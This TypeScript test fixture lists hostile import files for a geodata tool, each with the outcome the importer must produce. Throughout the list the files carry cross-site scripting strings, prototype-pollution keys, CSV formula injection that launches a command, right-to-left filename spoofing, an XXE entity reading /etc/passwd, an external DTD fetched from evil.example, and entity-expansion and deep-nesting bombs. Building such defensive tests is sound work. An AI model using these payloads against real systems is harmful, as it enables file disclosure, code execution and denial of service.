import { element, type ImportPayload, image, script } from "./payload";

const point = { type: "Point", coordinates: [36.2, 49.9] };

/** A collection of one point with a date, written as text so that `__proto__` is a member like any other. */
const featureWith = (properties: string, more = "") =>
  `{"type":"FeatureCollection"${more},"features":[{"type":"Feature","properties":{"date":"2025-12-27",${properties}},"geometry":${JSON.stringify(point)}}]}`;

/** Enough sound rows that the columns are taken for what they are. */
const soundRows = "2025-12-27,49.9,36.2\n".repeat(40);

const table = (header: string, cells: string) =>
  `date,lat,lng,${header}\n2025-12-27,49.9,36.2,${cells}\n2025-12-28,49.8,36.1,plain\n`;

const kml = (inside: string, before = "") =>
  `<?xml version="1.0"?>${before}<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>Strike</name><TimeStamp><when>2025-12-27</when></TimeStamp>${inside}<Point><coordinates>36.2,49.9</coordinates></Point></Placemark></Document></kml>`;

const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, level) => {
  const inner = level === 0 ? "lol" : `lol${level}`;
  return `<!ENTITY lol${level + 1} "${`&${inner};`.repeat(10)}">`;
}).join("")}]>`;
const quadratic = `<!DOCTYPE q [<!ENTITY a "${"a".repeat(50_000)}">]>`;

const proto = '{"polluted":"yes"}';

/** Texts of every kind of text file: what looks like script, markup, an address or a member of every object. */
export const importTexts: readonly ImportPayload[] = [
  {
    name: "script in a property of a GeoJSON",
    sink: "details, lists, tooltips, map labels",
    file: "a.geojson",
    content: featureWith(`"name":${JSON.stringify(element)},"notes":${JSON.stringify(image)}`),
    must: { kept: [element, image] },
  },
  {
    name: "script as the name of a property",
    sink: "column headers, filter names",
    file: "a.geojson",
    content: featureWith(`${JSON.stringify(image)}:"x"`),
    must: { kept: [image, "x"] },
  },
  {
    name: "__proto__, constructor and toString as properties of a GeoJSON",
    sink: "object keys",
    file: "a.geojson",
    content: featureWith('"__proto__":"p1","constructor":"c1","toString":"t1","hasOwnProperty":"h1"'),
    must: { kept: ["__proto__", "p1", "constructor", "c1", "toString", "t1", "hasOwnProperty", "h1"] },
  },
  {
    name: "an object under __proto__",
    sink: "object keys",
    file: "a.geojson",
    content: featureWith(`"__proto__":${proto},"constructor":{"prototype":${proto}}`),
    must: { kept: ["__proto__.polluted", "constructor.prototype.polluted", "yes"] },
  },
  {
    name: "a member of a feature that names styles and handlers",
    sink: "style-like members",
    file: "a.geojson",
    content: featureWith(
      `"marker-symbol":"javascript:${script}","stroke":"url(https://evil.example/s)","style":"background:url(//evil.example/b)","onclick":"${script}"`,
    ),
    must: {
      kept: [
        `javascript:${script}`,
        "url(https://evil.example/s)",
        "background:url(//evil.example/b)",
        script,
      ],
    },
  },
  {
    name: "addresses that run or carry content",
    sink: "links of claims",
    file: "a.csv",
    content: table(
      "url,source_url",
      `javascript:${script},"data:text/html,${element.replaceAll('"', '""')}"`,
    ),
    must: { kept: [`javascript:${script}`, `data:text/html,${element}`] },
  },
  {
    name: "CSV headers that are members of every object",
    sink: "object keys",
    file: "a.csv",
    content: table("__proto__,constructor,toString,valueOf", "a1,b1,c1,d1"),
    must: { kept: ["__proto__", "a1", "constructor", "b1", "toString", "c1", "valueOf", "d1"] },
  },
  {
    name: "the same hostile header twice",
    sink: "object keys",
    file: "a.csv",
    content: table("__proto__,__proto__", "a1,b1"),
    must: { kept: ["__proto__", "a1", "__proto__ (2)", "b1"] },
  },
  {
    name: "script in the cells and headers of a CSV",
    sink: "column headers, lists, details",
    file: "a.csv",
    content: table(`"${image.replaceAll('"', '""')}"`, `"${element.replaceAll('"', '""')}"`),
    must: { kept: [image, element] },
  },
  {
    name: "formulas in the cells of a CSV",
    sink: "spreadsheets, at the next export",
    file: "a.csv",
    content: table("title,notes", "=cmd|'/C calc'!A0,@SUM(1+1)*cmd|'/C calc'!A0"),
    must: { kept: ["=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0"] },
  },
  {
    name: "characters that turn the reading direction, and invisible ones",
    sink: "names",
    file: "a.csv",
    content: table("title", "report\u202Egnp.exe\u200B\u2066"),
    must: { kept: ["report\u202Egnp.exe\u200B\u2066"] },
  },
  {
    name: "zero bytes and control characters in a cell",
    sink: "names",
    file: "a.csv",
    content: table("title", "a\u0001b\u001b[31mc\u007f"),
    must: { kept: ["a\u0001b\u001b[31mc\u007f"] },
  },
  {
    name: "numbers that are none and numbers beyond all",
    sink: "positions",
    file: "a.csv",
    content: `date,lat,lng\n${soundRows}2025-12-27,NaN,Infinity\n2025-12-27,1e309,-1e309\n`,
    must: { told: ["coordinates-unreadable", "coordinates-out-of-range"] },
  },
  {
    name: "figures beyond all",
    sink: "sums",
    file: "a.csv",
    content: table("killed", "99999999999999999999"),
    must: { told: ["figure-unreadable"] },
  },
  {
    name: "a coordinate that overflows in a GeoJSON",
    sink: "positions",
    file: "a.geojson",
    content: featureWith('"name":"x"').replace("[36.2,49.9]", "[1e999,49.9]"),
    must: { told: ["geometry-invalid", "coordinates-unreadable", "coordinates-out-of-range"] },
  },
  {
    name: "years that no clock holds",
    sink: "time",
    file: "a.csv",
    content: `date,lat,lng\n${soundRows}+275760-09-13,49.9,36.2\n-271821-04-20,49.9,36.2\n`,
    must: { told: ["date-unreadable", "date-out-of-range"] },
  },
  {
    name: "JSON nested 100,000 deep in a property",
    sink: "stack",
    file: "a.geojson",
    content: () => featureWith(`"deep":${"[".repeat(100_000)}${"]".repeat(100_000)}`),
    must: { refused: ["file-damaged"] },
  },
  {
    name: "JSON nested 1,000,000 deep and never closed",
    sink: "stack",
    file: "a.geojson",
    content: () => `{"type":"FeatureCollection","features":${"[".repeat(1_000_000)}`,
    must: { refused: ["file-damaged", "format-unknown"] },
  },
  {
    name: "a geometry collection nested 20,000 deep",
    sink: "stack",
    file: "a.geojson",
    content: () =>
      featureWith('"name":"x"').replace(
        JSON.stringify(point),
        `${'{"type":"GeometryCollection","geometries":['.repeat(20_000)}${JSON.stringify(point)}${"]}".repeat(20_000)}`,
      ),
    must: { told: ["geometry-unsupported", "geometry-invalid"] },
  },
  {
    name: "a coordinate system that is an address",
    sink: "requests",
    file: "a.geojson",
    content: featureWith(
      '"name":"x"',
      ',"crs":{"type":"link","properties":{"href":"https://evil.example/crs","type":"proj4"}}',
    ),
    must: { refused: ["unsupported-projection"] },
  },
  {
    name: "a coordinate system named __proto__",
    sink: "object keys",
    file: "a.geojson",
    content: featureWith('"name":"x"', ',"crs":{"type":"name","properties":{"name":"__proto__"}}'),
    must: { refused: ["unsupported-projection"] },
  },
  {
    name: "more columns than a table may have",
    sink: "memory",
    file: "a.csv",
    content: () => table(Array.from({ length: 20_000 }, (_, index) => `c${index}`).join(","), "x"),
    must: { refused: ["too-many-columns"] },
  },
  {
    name: "a property of another name in each feature",
    sink: "memory",
    file: "a.geojson",
    content: () =>
      JSON.stringify({
        type: "FeatureCollection",
        features: Array.from({ length: 2000 }, (_, index) => ({
          type: "Feature",
          properties: { [`p${index}`]: 1 },
          geometry: point,
        })),
      }),
    must: { refused: ["too-many-columns"] },
  },
  {
    name: "a quote that nothing closes before 17 million characters",
    sink: "memory",
    file: "a.csv",
    content: () => `${table("title", "plain")}2025-12-27,49.9,36.2,"${"x".repeat(17_000_000)}\n`,
    must: { told: ["quote-not-closed", "malformed-record"] },
  },
  {
    name: "script in the description of a KML",
    sink: "details",
    file: "a.kml",
    content: kml(`<description><![CDATA[${element}${image}]]></description>`),
    must: { kept: [`${element}${image}`] },
  },
  {
    name: "script in the extended data and the attributes of a KML",
    sink: "column headers, details",
    file: "a.kml",
    content: kml(
      `<ExtendedData><Data name="__proto__"><value>v1</value></Data><Data name="&lt;img src=x&gt;"><value>javascript:${script}</value></Data></ExtendedData>`,
    ),
    must: { kept: ["__proto__", "v1", "<img src=x>", `javascript:${script}`] },
  },
  {
    name: "a KML with styles, icons and links to other hosts",
    sink: "requests",
    file: "a.kml",
    content: kml(
      "<Style><IconStyle><Icon><href>https://evil.example/i.png</href></Icon></IconStyle></Style><NetworkLink><Link><href>https://evil.example/l.kml</href></Link></NetworkLink><description>kept</description>",
    ),
    must: { kept: ["kept"] },
  },
  {
    name: "entities that grow a billionfold",
    sink: "memory",
    file: "a.kml",
    content: kml("<description>&lol9;</description>", laughs),
    must: { refused: ["file-damaged"] },
  },
  {
    name: "one long entity, used 50,000 times",
    sink: "memory",
    file: "a.kml",
    content: () => kml(`<description>${"&a;".repeat(50_000)}</description>`, quadratic),
    must: { refused: ["file-damaged"] },
  },
  {
    name: "an external entity that reads a file",
    sink: "files, requests",
    file: "a.kml",
    content: kml("<description>&x;</description>", '<!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    must: { refused: ["file-damaged"] },
  },
  {
    name: "an external document type with parameter entities",
    sink: "requests",
    file: "a.gpx",
    content:
      '<?xml version="1.0"?><!DOCTYPE gpx PUBLIC "x" "https://evil.example/x.dtd" [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]><gpx version="1.1"><wpt lat="49.9" lon="36.2"><time>2025-12-27T00:00:00Z</time></wpt></gpx>',
    must: { refused: ["file-damaged"] },
  },
  {
    name: "a reference to an entity that nothing declares",
    sink: "details",
    file: "a.kml",
    content: kml("<description>&xxe; &#0; &#x110000;</description>"),
    must: { kept: ["&xxe; &#0; &#x110000;"] },
  },
  {
    name: "XML nested 100,000 deep",
    sink: "stack",
    file: "a.kml",
    content: () => kml(`${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`),
    must: { refused: ["file-damaged"] },
  },
  {
    name: "a tag with 100,000 attributes, and one of a million spaces that does not end",
    sink: "time",
    file: "a.kml",
    content: () =>
      kml(
        `<a ${Array.from({ length: 100_000 }, (_, index) => `b${index}="1"`).join(" ")}/><c${" ".repeat(1_000_000)}`,
      ),
    must: { refused: ["file-damaged"] },
  },
  {
    name: "script in the name of a GPX waypoint and a link of it",
    sink: "details, links",
    file: "a.gpx",
    content: `<?xml version="1.0"?><gpx version="1.1" creator="x"><wpt lat="49.9" lon="36.2"><time>2025-12-27T00:00:00Z</time><name>&lt;script&gt;${script}&lt;/script&gt;</name></wpt></gpx>`,
    must: { kept: [element] },
  },
  {
    name: "a web page that calls itself a table",
    sink: "format detection",
    file: "a.csv",
    content: `<!doctype html><html><body onload="${script}">${element}</body></html>`,
    must: { unusable: true },
  },
  {
    name: "a picture with a document type of its own",
    sink: "memory",
    file: "a.svg",
    content: `<?xml version="1.0"?>${laughs}<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><text>&lol9;</text></svg>`,
    must: { refused: ["format-unknown", "file-damaged"] },
  },
];
